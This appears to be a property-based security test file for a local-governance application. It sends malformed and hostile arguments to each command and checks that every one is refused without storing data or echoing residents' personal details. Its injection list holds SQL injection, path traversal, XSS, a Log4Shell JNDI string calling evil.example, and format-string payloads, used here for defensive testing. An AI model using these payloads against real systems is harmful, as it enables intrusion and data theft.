"""Hostile input: hypothesis-generated malformed or hostile commands — wrong types, oversized
text, injection strings, unknown ids, wrong actors. Each example takes a command that would
otherwise be well-formed and breaks exactly one argument. Every one must be refused with a
typed :class:`CogovError`, store nothing, and never echo a resident's personal data.

``COGOV_HOSTILE_COMMANDS`` sets the number of examples (CI default 3,000; the documented run
in docs/security.md used 100,000).
"""

from __future__ import annotations

import os
from collections import Counter
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cogov import (
    Actor,
    Assignee,
    AssigneeKind,
    Channel,
    CoGov,
    CogovError,
    ErasureBasis,
    ManualClock,
    MeetingKind,
    Role,
    Scale,
    UnitLevel,
)
from cogov.domain.policybook import WHOLE_DEPLOYMENT
from tests.security.support import PEOPLE, Deployment, deploy

EXAMPLES = int(os.environ.get("COGOV_HOSTILE_COMMANDS", "3000"))
PII = PEOPLE[1][:2]  # the name and phone every register_resident example carries

INJECTIONS = [
    "'; DROP TABLE stored_events; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "\x00\x00",
    "\u202egnp.exe",
    "Robert'); DELETE FROM pii_keys;--",
    "😀" * 3,
    "null",
    "undefined",
    "NaN",
]

# -- hostile values, by the kind of argument they replace ----------------------------------
WRONG_TYPE = st.one_of(
    st.none(),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.sampled_from(["a", "id", "x"]), st.integers(), max_size=2),
    st.floats().filter(lambda f: not f.is_integer()),
    st.just(object()),
)
INJECTION = st.sampled_from(INJECTIONS)


def oversized(limit: int) -> st.SearchStrategy[str]:
    return st.tuples(INJECTION, st.integers(1, 50)).map(
        lambda t: (t[0] + "长" * (limit + t[1]))[: limit + t[1]].ljust(limit + t[1], "长")
    )


BLANK = st.sampled_from(["", " ", "\n\t", "\u3000"])
UNKNOWN_ID = st.uuids()
NON_ENUM = st.one_of(st.text(max_size=20), st.integers()).filter(
    lambda v: (
        v
        not in {
            *Channel,
            *Scale,
            *MeetingKind,
            *UnitLevel,
            *Role,
            *ErasureBasis,
            *AssigneeKind,
        }
    )
)
NOT_AN_INT = st.one_of(INJECTION, st.lists(st.integers(), max_size=2), st.none()) | st.floats(
    allow_nan=True
).filter(lambda f: not f.is_integer())

HOSTILE: dict[str, st.SearchStrategy[Any]] = {
    "id": st.one_of(UNKNOWN_ID, INJECTION, WRONG_TYPE),  # an aggregate that must exist
    "uuid": st.one_of(INJECTION, WRONG_TYPE),  # any UUID will do; only its form can be wrong
    "short": st.one_of(oversized(200), BLANK, WRONG_TYPE),
    "long": st.one_of(oversized(5000), BLANK, WRONG_TYPE),
    "name": st.one_of(oversized(120), BLANK, WRONG_TYPE),
    "phone": st.one_of(INJECTION, BLANK, WRONG_TYPE, st.text(max_size=3)),
    "enum": st.one_of(NON_ENUM, WRONG_TYPE),
    "count": st.one_of(NOT_AN_INT, st.integers(max_value=-1), st.integers(min_value=10**7)),
    "score": st.one_of(NOT_AN_INT, st.integers(max_value=0), st.integers(min_value=6)),
    "future": st.one_of(
        st.datetimes(max_value=datetime(2026, 3, 1), timezones=st.just(UTC)),  # in the past
        INJECTION,
        WRONG_TYPE,
    ),
    "assignee": st.one_of(
        st.fixed_dictionaries({"kind": NON_ENUM, "id": st.just("x"), "name": st.just("y")}),
        st.fixed_dictionaries({"kind": st.just("department"), "id": BLANK, "name": st.just("y")}),
        INJECTION,
        WRONG_TYPE,
    ),
}


def _valid_actor_id(actor_id: str) -> bool:
    """A well-formed id (the refusal must come from the grant, not from the id's form)."""
    try:
        Actor(id=actor_id, role=Role.RESIDENT, unit_id=WHOLE_DEPLOYMENT)
    except ValueError:
        return False
    return True


def wrong_actors(d: Deployment) -> st.SearchStrategy[Any]:
    """Actors who must be refused: never granted, a role not held, a unit not covered, a
    resident who is not one, the system role, or no actor at all."""
    ids = st.one_of(INJECTION, st.text(min_size=1, max_size=20).map(lambda s: f"x-{s}x")).filter(
        _valid_actor_id
    )
    units = st.sampled_from([d.village, d.group, d.other, d.county])
    held = {"gw-1": Role.GRID_WORKER, "boss": Role.COMMITTEE_MEMBER, "admin": Role.ADMINISTRATOR}
    return st.one_of(
        st.builds(
            lambda i, r, u: Actor(id=i, role=r, unit_id=u), ids, st.sampled_from(Role), units
        ),
        st.builds(
            lambda i, r, u: Actor(id=i, role=r, unit_id=u),
            st.sampled_from(sorted(held)),
            st.sampled_from(Role),
            units,
        ).filter(lambda a: a.role is not held[a.id] and a.role is not Role.SYSTEM),
        st.builds(lambda u: Actor(id="gw-1", role=Role.GRID_WORKER, unit_id=u), st.just(d.other)),
        st.builds(lambda u: Actor(id=str(u), role=Role.RESIDENT, unit_id=d.group), st.uuids()),
        st.just(Actor(id=d.resident_actor.id, role=Role.RESIDENT, unit_id=d.other)),
        st.just(Actor(id="cogov", role=Role.SYSTEM, unit_id=WHOLE_DEPLOYMENT)),
        st.fixed_dictionaries({"id": st.just("boss"), "role": st.just("god")}),
        WRONG_TYPE,
    )


class Fixture(Deployment):
    resident_actor: Actor


Spec = tuple[Callable[..., Any], dict[str, Any], dict[str, str]]


def specs(d: Any) -> dict[str, Spec]:
    """command → (method, well-formed arguments, the kind of each argument)."""
    app = d.app
    grid, boss, admin, resident = d.grid, d.boss, d.admin, d.resident_actor
    soon = d.now + timedelta(days=3)
    worker = Assignee(kind=AssigneeKind.DEPARTMENT, id="zhujian", name="住建局")
    name, phone = PII
    return {
        "collect_issue": (
            app.collect_issue,
            {
                "actor": grid,
                "unit_id": d.group,
                "channel": Channel.GRID_WORKER,
                "raised_by": UUID(resident.id),
                "title": "路灯",
                "description": "路灯不亮",
            },
            {
                "unit_id": "id",
                "channel": "enum",
                "raised_by": "uuid",
                "title": "short",
                "description": "long",
            },
        ),
        "triage_issue": (
            app.triage_issue,
            {"actor": boss, "issue_id": d.issue, "scale": Scale.MINOR, "category": "设施"},
            {"issue_id": "id", "scale": "enum", "category": "short"},
        ),
        "dispatch_issue": (
            app.dispatch_issue,
            {"actor": boss, "issue_id": d.issue, "assignee": worker},
            {"issue_id": "id", "assignee": "assignee"},
        ),
        "resolve_issue": (
            app.resolve_issue,
            {"actor": boss, "issue_id": d.issue, "summary": "已修好"},
            {"issue_id": "id", "summary": "long"},
        ),
        "evaluate_issue": (
            app.evaluate_issue,
            {"actor": resident, "issue_id": d.issue, "score": 5},
            {"issue_id": "id", "score": "score"},
        ),
        "withdraw_issue": (
            app.withdraw_issue,
            {"actor": resident, "issue_id": d.issue, "reason": "已解决"},
            {"issue_id": "id", "reason": "long"},
        ),
        "schedule_meeting": (
            app.schedule_meeting,
            {
                "actor": boss,
                "unit_id": d.village,
                "kind": MeetingKind.TWO_COMMITTEES,
                "title": "两委会议",
                "roster_size": 7,
                "scheduled_for": soon,
                "chair_id": "boss",
            },
            {
                "unit_id": "id",
                "kind": "enum",
                "title": "short",
                "roster_size": "count",
                "chair_id": "name",
            }
            | {"scheduled_for": "future"},
        ),
        "convene_meeting": (
            app.convene_meeting,
            {"actor": boss, "meeting_id": d.meeting, "present": 5},
            {"meeting_id": "id", "present": "count"},
        ),
        "record_vote": (
            app.record_vote,
            {
                "actor": boss,
                "meeting_id": d.meeting,
                "item_no": 1,
                "votes_for": 4,
                "votes_against": 1,
            },
            {
                "meeting_id": "id",
                "item_no": "count",
                "votes_for": "count",
                "votes_against": "count",
            },
        ),
        "establish_unit": (
            app.establish_unit,
            {"actor": admin, "name": "新组", "level": UnitLevel.GROUP, "parent_id": d.village},
            {"name": "short", "level": "enum", "parent_id": "id"},
        ),
        "grant_role": (
            app.grant_role,
            {"actor": admin, "grantee_id": "new-1", "role": Role.GRID_WORKER, "unit_id": d.village},
            {"grantee_id": "name", "role": "enum", "unit_id": "id"},
        ),
        "register_resident": (
            app.register_resident,
            {
                "actor": grid,
                "unit_id": d.group,
                "name": name,
                "phone": phone,
                "address": "渡河村1组9号",
                "household": "户9",
            },
            {
                "unit_id": "id",
                "name": "short",
                "phone": "phone",
                "address": "short",
                "household": "short",
            },
        ),
        "resident_contact": (
            app.resident_contact,
            {"actor": grid, "resident_id": UUID(resident.id), "purpose": "回访"},
            {"resident_id": "id", "purpose": "short"},
        ),
        "forget_resident": (
            app.forget_resident,
            {"actor": admin, "resident_id": UUID(resident.id), "basis": ErasureBasis.REQUEST},
            {"resident_id": "id", "basis": "enum"},
        ),
    }


@pytest.fixture(scope="module")
def target() -> Any:
    clock = ManualClock(datetime(2026, 3, 2, 1, 0, tzinfo=UTC))
    d: Any = deploy(CoGov(clock=clock))
    d.now = clock.now()
    d.grid = d.grant("gw-1", Role.GRID_WORKER, d.village)
    d.resident_actor = d.resident(d.group)
    d.issue = d.app.collect_issue(
        d.grid,
        unit_id=d.group,
        channel=Channel.GRID_WORKER,
        raised_by=UUID(d.resident_actor.id),
        title="路灯",
        description="路灯不亮",
    )
    d.meeting = d.app.schedule_meeting(
        d.boss,
        unit_id=d.village,
        kind=MeetingKind.TWO_COMMITTEES,
        title="两委会议",
        roster_size=7,
        scheduled_for=clock.now() + timedelta(days=2),
        chair_id="boss",
    )
    d.specs = specs(d)
    d.actors = wrong_actors(d)
    d.tally = Counter()
    yield d
    d.app.close()


@st.composite
def hostile_command(draw: st.DrawFn, d: Any) -> tuple[str, str, dict[str, Any]]:
    command = draw(st.sampled_from(sorted(d.specs)))
    _, arguments, kinds = d.specs[command]
    field = draw(st.sampled_from(["actor", *sorted(kinds)]))
    value = draw(d.actors if field == "actor" else HOSTILE[kinds[field]])
    return command, field, {**arguments, field: value}


def test_hostile_commands_are_refused_with_typed_errors_and_store_nothing(target: Any) -> None:
    d = target
    position = d.app.max_position()

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(st.data())
    def attempt(data: st.DataObject) -> None:
        command, field, arguments = data.draw(hostile_command(d))
        method = d.specs[command][0]
        try:
            method(**arguments)
        except CogovError as refused:
            text = f"{refused} {refused.details}"
            assert not any(p in text for p in PII), text
            d.tally[type(refused).__name__] += 1
        else:
            raise AssertionError(f"{command} accepted {field}={arguments[field]!r}")
        assert d.app.max_position() == position

    attempt()
    total = sum(d.tally.values())
    print(f"\nhostile commands: {total} refused, by error: {dict(sorted(d.tally.items()))}")
    assert total >= EXAMPLES
    assert d.app.max_position() == position


def test_the_well_formed_base_commands_pass_input_validation(target: Any) -> None:
    """The bases are well-formed, so each refusal above comes from the one broken argument:
    run as they are, they are accepted or refused by a domain rule — never as bad input."""
    d = target
    outcomes: dict[str, str] = {}
    for command, (method, arguments, _) in sorted(d.specs.items()):
        try:
            method(**arguments)
        except CogovError as refusal:
            outcomes[command] = refusal.rule
        else:
            outcomes[command] = "accepted"
    assert outcomes == {
        "collect_issue": "accepted",
        "convene_meeting": "meeting.transition.convene",
        "dispatch_issue": "issue.triage_first",
        "establish_unit": "accepted",
        "evaluate_issue": "issue.transition.evaluate",
        "forget_resident": "accepted",
        "grant_role": "accepted",
        "record_vote": "meeting.transition.record_vote",
        "register_resident": "accepted",
        "resident_contact": "accepted",
        "resolve_issue": "issue.transition.resolve",
        "schedule_meeting": "accepted",
        "triage_issue": "accepted",
        "withdraw_issue": "permission.grant",  # the resident was forgotten just before
    }
